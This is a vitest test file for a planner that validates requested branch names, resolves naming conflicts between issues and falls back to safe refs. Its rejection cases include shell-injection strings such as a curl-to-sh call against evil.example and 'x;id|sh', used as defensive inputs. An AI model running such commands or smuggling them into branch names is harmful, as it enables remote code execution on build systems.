import { describe, expect, it } from 'vitest';
import { context, DELIVERABLES, issue } from '../../../test/support/planning.ts';
import type { LinkedPull } from '../issue.ts';
import type { Attempt } from '../task.ts';
import {
  createWishIndex,
  explainWish,
  wasMadeFor,
  wasRefused,
  wishOf,
  wishProblem,
} from './branch-wish.ts';
import { planIssue } from './plan.ts';

describe('a wish is not followed', () => {
  it.each([
    ['$(curl${IFS}evil.example|sh)', 'unsafe_name'],
    ['x;id|sh', 'unsafe_name'],
    ['"x"', 'unsafe_name'],
    ['-x', 'unsafe_name'],
    ['main', 'default_branch'],
    ['MAIN/x', 'default_branch'],
    ['feature', 'reserved_name'],
    ['Feature', 'reserved_name'],
    ['feature/issue-8', 'reserved_name'],
    ['feature/issue-7/part', 'reserved_name'],
    ['FEATURE/ISSUE-900', 'reserved_name'],
  ])('%s: %s', (wish, problem) => {
    expect(wishProblem(wish, 'main')).toBe(problem);
    expect(explainWish(wish, problem, 'feature/issue-7').detail).toMatch(
      /So feature\/issue-7 is used\.$/,
    );
  });
});

it.each(['login', 'feature/login', 'feature-x', 'features', 'feature/issue-x', 'fix/c++_1.0'])(
  '%s may be asked for',
  (wish) => expect(wishProblem(wish, 'main')).toBeNull(),
);

describe('of two issues that ask for names which cannot exist beside each other', () => {
  it.each([
    ['a', 'a'],
    ['a', 'a/b'],
    ['a/b', 'a'],
    ['A/b', 'a/B/c'],
  ])('%s and %s: the older one has it, in whatever order they are seen', (old, young) => {
    const first = createWishIndex();
    expect(first.put(5, old)).toEqual([]);
    expect(first.put(9, young)).toEqual([]);
    expect([first.rival(5, old), first.rival(9, young)]).toEqual([null, 5]);
    const second = createWishIndex();
    second.put(9, young);
    expect(second.rival(9, young)).toBeNull();
    expect(second.put(5, old)).toEqual([9]);
    expect(second.rival(9, young)).toBe(5);
  });

  it('the other gets it when the first one no longer asks', () => {
    const index = createWishIndex();
    index.put(5, 'a');
    index.put(9, 'a/b');
    index.put(5, 'b');
    expect(index.rival(9, 'a/b')).toBeNull();
    index.put(5, null);
    expect(index.rival(9, 'b')).toBeNull();
    expect(index.rival(10, 'a')).toBe(9);
  });
});

describe('the plan', () => {
  const branches = (body: string, over = {}, pull: Partial<LinkedPull> | null = null) => {
    const linked = pull && {
      number: 20,
      headBranch: 'x',
      state: 'open' as const,
      endedAt: null,
      author: 'ann',
      decision: null,
      decidedAt: null,
      comments: [],
      ...pull,
    };
    const given = issue({
      body: `${body}\n${DELIVERABLES}`,
      pull: linked,
      labels: ['needs-review'],
    });
    const { plans } = planIssue(given, null, context(over));
    return Object.fromEntries(plans.map((plan) => [plan.id.split('~').at(-1), plan.branch]));
  };

  it('follows a wish that nothing speaks against, and falls back otherwise', () => {
    expect(branches('Branch: login')['implement.1']).toBe('login');
    const wishProblems = new Map([[7, 'exists']]);
    expect(branches('Branch: login', { wishProblems })['implement.1']).toBe('feature/issue-7');
    expect(branches('Branch: feature')['implement.1']).toBe('feature/issue-7');
  });

  it.each(['x;id|sh', '$(id)', 'main', 'a b', '-x'])(
    "names GitHub's own ref where a pull request's branch is called %j",
    (headBranch) => {
      expect(branches('', {}, { headBranch })['review.1']).toBe('refs/pull/20/head');
    },
  );

  it("names a pull request's branch where its name is safe", () => {
    expect(branches('', {}, { headBranch: 'topic/a' })['review.1']).toBe('topic/a');
  });
});

describe('a branch that an earlier lease worked on', () => {
  const attempt = (over: Partial<Attempt>): Attempt => ({
    agentId: 'hana',
    fence: 1,
    branch: 'login',
    startedAt: 0,
    endedAt: 1,
    outcome: 'expired',
    note: null,
    progress: [],
    usage: null,
    ...over,
  });
  const refused = (note: string | null) => attempt({ outcome: 'refused', note });
  const other = attempt({ branch: 'other' });
  it.each<[string, Attempt[], boolean, boolean]>([
    ['nobody worked', [], false, false],
    ['a lease ran out', [attempt({}), other], true, false],
    ['a lease goes on', [attempt({ outcome: null })], true, false],
    ['only others worked', [other], false, false],
    ['it was there before', [other, refused('branch_exists')], false, true],
    ['another one is in its way', [refused('branch_conflict')], false, true],
    ['it is no name', [refused('invalid_branch')], false, true],
    ['the forge has a rule against it', [refused('branch_refused')], false, true],
    ['the issue is gone', [refused('gone')], false, false],
    ['nobody knows why it was refused', [refused(null)], false, false],
    ['a failure was told in the same words', [attempt({ note: 'branch_exists' })], true, false],
  ])('%s', (_title, attempts, made, wasRefusedBefore) => {
    expect(wasMadeFor(attempts, 'login')).toBe(made);
    expect(wasRefused(attempts, 'login')).toBe(wasRefusedBefore);
  });
});

describe('the name that an issue asks for', () => {
  it.each<[Parameters<typeof wishOf>[0], string | null]>([
    [{ subject: 'issue', number: 7, body: 'Branch: login' }, 'login'],
    [{ subject: 'issue', number: 7, body: 'Branch: feature/issue-7' }, null],
    [{ subject: 'issue', number: 8, body: 'Branch: feature/issue-7' }, 'feature/issue-7'],
    [{ subject: 'pull_request', number: 7, body: 'Branch: login' }, null],
    [{ subject: 'issue', number: 7, body: '' }, null],
  ])('%j: %j', (given, wish) => {
    expect(wishOf(given)).toBe(wish);
  });

  it('is shown shortened, with the reason or the word for it', () => {
    expect(explainWish('x'.repeat(90), 'used_by:#5', 'y').detail).toBe(
      `The issue asks for the branch "${'x'.repeat(80)}"; the issue #5 uses it, or one that cannot exist beside it. So y is used.`,
    );
    expect(explainWish('x', 'later', 'y').detail).toBe(
      'The issue asks for the branch "x"; later. So y is used.',
    );
  });
});

describe('an index of wishes', () => {
  it('names the oldest of several rivals, and only those that collide', () => {
    const index = createWishIndex();
    index.put(9, 'a/b');
    index.put(3, 'a/b/c');
    index.put(5, 'a/b/d');
    index.put(4, 'a/x');
    expect(index.rival(10, 'a/b')).toBe(3);
    expect(index.rival(5, 'a/b')).toBe(3);
    expect(index.rival(4, 'a/x')).toBeNull();
    expect(index.put(2, 'a/b')).toEqual([9, 3, 5]);
    expect(index.put(2, 'a/b')).toEqual([]);
  });
});
